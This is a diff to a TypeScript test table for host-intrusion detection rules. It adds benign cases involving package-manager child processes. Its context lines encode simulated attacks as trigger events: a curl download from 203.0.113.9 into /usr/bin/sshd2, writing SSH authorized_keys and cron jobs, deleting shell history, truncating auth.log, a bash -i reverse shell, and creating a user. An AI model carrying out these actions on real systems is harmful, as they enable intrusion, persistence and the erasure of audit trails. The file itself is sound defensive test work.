@@ -91,6 +91,7 @@ export const CASES: Record<string, RuleCase> = {
     trigger: write(hostProc('tee', { args: ['/etc/cron.d/job'] }), '/etc/cron.d/job'),
     benign: write(hostProc('dpkg'), '/etc/cron.d/job'),
     output: ['process=tee', 'file=/etc/cron.d/job', 'user=root'],
+    alsoBenign: [write(hostProc('sed', { args: ['-i', 's/a/b/', '/etc/default/grub'], parent: hostProc('sh', { parent: hostProc('dpkg') }) }), '/etc/default/grub')],
   },
   'Saker Write Below Root Home': {
     trigger: write(hostProc('sh'), '/root/.ssh/authorized_keys'),
@@ -101,6 +102,7 @@ export const CASES: Record<string, RuleCase> = {
     trigger: write(hostProc('curl', { args: ['-o', '/usr/bin/sshd2', 'http://203.0.113.9/x'] }), '/usr/bin/sshd2'),
     benign: write(hostProc('dpkg'), '/usr/bin/vim.basic'),
     output: ['process=curl', 'file=/usr/bin/sshd2'],
+    alsoBenign: [write(hostProc('cp', { parent: hostProc('sh', { parent: hostProc('rpm') }) }), '/usr/lib/x86_64-linux-gnu/libfoo.so.1')],
   },
   'Saker Shell History Deleted': {
     trigger: unlinkat(hostProc('rm', { args: ['-f', '/home/alice/.bash_history'], user: 'alice' }), '/home/alice/.bash_history'),
@@ -117,6 +119,7 @@ export const CASES: Record<string, RuleCase> = {
     trigger: truncate(hostProc('truncate', { args: ['-s0', '/var/log/auth.log'] }), '/var/log/auth.log'),
     benign: truncate(hostProc('logrotate', { args: ['/etc/logrotate.conf'] }), '/var/log/auth.log'),
     output: ['process=truncate', 'file=/var/log/auth.log'],
+    alsoBenign: [unlinkat(hostProc('gzip', { args: ['/var/log/syslog.2'], parent: hostProc('logrotate') }), '/var/log/syslog.2')],
   },
   'Saker Reverse Shell': {
     trigger: dup2(hostProc('bash', { args: ['-i'] }), 0),
@@ -182,6 +185,7 @@ export const CASES: Record<string, RuleCase> = {
     trigger: exec(hostProc('useradd', { args: ['-m', 'backup2'], parent: hostShell })),
     benign: exec(hostProc('useradd', { args: ['--system', '_apt'], parent: hostProc('dpkg') })),
     output: ['process=useradd', 'command=useradd -m backup2', 'parent=bash'],
+    alsoBenign: [exec(hostProc('useradd', { args: ['--system', 'svc'], parent: hostProc('sh', { parent: hostProc('sh', { parent: hostProc('dpkg') }) }) }))],
   },
 };
 
